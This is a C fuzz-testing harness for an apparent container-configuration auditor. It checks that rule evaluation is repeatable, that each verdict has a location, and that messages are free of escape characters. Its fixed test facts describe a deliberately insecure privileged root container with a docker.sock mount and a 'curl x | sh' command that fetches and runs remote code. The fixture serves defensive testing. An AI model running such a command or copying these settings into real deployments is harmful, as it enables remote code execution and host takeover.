/*
 * Any bytes as a rule file: refused with a sentence, or compiled and asked about subjects whose facts never change.
 *
 * What it then says has a place, a message without control characters, and the same again when asked again.
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "audit/rule_impl.h"
#include "base/node_in.h"
#include "base/text.h"

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t length);

static const char facts_text[] =
    "{format: kubernetes, name: \"we\\eb\", privileged: true, user: {id: 0, name: root}, read_only_root: false,\n"
    " capabilities: {add: [SYS_ADMIN, CHOWN], drop: [], effective: [ALL]}, command: 'sh -c \"curl x | sh\" aaaaaaaaaaaaa',\n"
    " mounts: [{source: /, read_only: true}, {source: /var/run/docker.sock}, {source: data}, null, [1], 2],\n"
    " memory: {request: 1048576, limit: -1}, cpu: {limit: 9223372036854775807}, ports: [{host: '80'}, {host: 0x50}],\n"
    " labels: {a.b/c: d}, pod: {os: linux, namespaces: {network: host}}, runtime: gvisor}\n";

static void judge(const struct rule_set *set, enum subject_kind kind, const struct node *facts, struct arena *arena)
{
    struct verdicts once = {0};
    struct verdicts twice = {0};
    struct subject subject = {.kind = kind, .format = "kubernetes", .facts = facts, .where = facts, .pod_spec = facts};
    rule_set_judge(set, NULL, &subject, arena, &once);
    rule_set_judge(set, NULL, &subject, arena, &twice);
    if (once.count != twice.count)
        abort();
    for (size_t i = 0; i < once.count; i++) {
        const char *message = once.items[i].message;
        if (once.items[i].where != twice.items[i].where || node_origin(once.items[i].where)->line == 0)
            abort();
        for (; *message; message++)
            if (*message == '\033')
                abort();
    }
    free(once.items);
    free(twice.items);
}

static int add(struct rule_set *set, const struct node *root)
{
    struct err err = ERR_INIT;
    int rc = rule_set_add(set, "input", root, false, &err);
    if ((rc < 0) != (err.sentence[0] != '\0'))
        abort();
    return rc;
}

int LLVMFuzzerTestOneInput(const uint8_t *bytes, size_t length)
{
    AUTO(arena_free_cleanup) struct arena *arena = arena_new();
    AUTO(rule_set_free_cleanup) struct rule_set *set = rule_set_new();
    struct node_stream stream = {0};
    struct node_stream facts = {0};
    struct err err = ERR_INIT;
    if (yaml_read("facts", facts_text, strlen(facts_text), arena, &facts, &err) < 0 || facts.count != 1)
        abort();
    (void)yaml_read("input", (const char *)bytes, length, arena, &stream, &err);
    for (size_t i = 0; i < stream.count && i < 10; i++) {
        if (i == 0 && node_is(stream.documents[i], NODE_MAP))
            rule_set_add_lists(set, stream.documents[i]);
        (void)add(set, stream.documents[i]);
    }
    rule_set_index(set);
    for (int kind = 0; kind < SUBJECT_KIND_COUNT; kind++)
        judge(set, (enum subject_kind)kind, facts.documents[0], arena);
    return 0;
}
